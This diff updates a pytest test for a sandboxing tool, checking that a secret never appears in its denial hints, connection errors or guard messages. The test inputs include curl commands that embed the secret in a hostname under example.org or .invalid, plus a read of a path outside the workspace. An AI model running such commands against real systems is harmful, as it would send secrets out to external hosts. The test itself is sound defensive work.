@@ -208,15 +208,19 @@ def test_no_false_hit_in_100_mb(pinfold):
     no_false_hit(pinfold, 100 << 20)
 
 
-@pytest.mark.parametrize("mode", [["--json"], ["--json=stream"]])
-def test_what_is_told_beside_the_output(pinfold, mode):
+@pytest.mark.parametrize("mode", ["--json", "--json=stream"])
+@pytest.mark.parametrize("args, told", [
+    (["--shell", "curl -s http://{}.example.org/"], "network.default=deny"),        # a denial and its hint
+    (["--allow", "*:80", "--shell", "curl -s http://{}.invalid/"], "unreached"),    # a connection
+    (["--shell", "cat /{}"], "is outside the workspace"),                           # the guard's reason
+])
+def test_what_is_told_beside_the_output(pinfold, workspace, mode, args, told):
     """A name that was asked for, the hint made of it, the reason of the guard: none has the secret in it."""
     secret = "7fA1b9Qx2ZpL8mNv"
     policy = json.dumps({"guard": {"command": "audit"}}).encode()
-    done = pinfold.run(*mode, "--policy", "-", "--secret", "K=env:K", "--shell",
-                       f"curl -s http://{secret}.example.org/; cat /{secret}; curl -s -x http://127.0.0.1:3128 http://{secret}/",
-                       env={"K": secret}, stdin=policy)
-    assert "network.default=deny" in done.out and "[redacted:K]" in done.out, done
+    done = pinfold.run(mode, "--policy", "-", "--workspace", workspace(pinfold, {"a": "a"}), "--secret", "K=env:K",
+                       *[arg.format(secret) for arg in args], env={"K": secret}, stdin=policy)
+    assert told in done.out and "[redacted:K]" in done.out, done
     assert secret.lower() not in (done.out + done.err).lower(), done
 
 
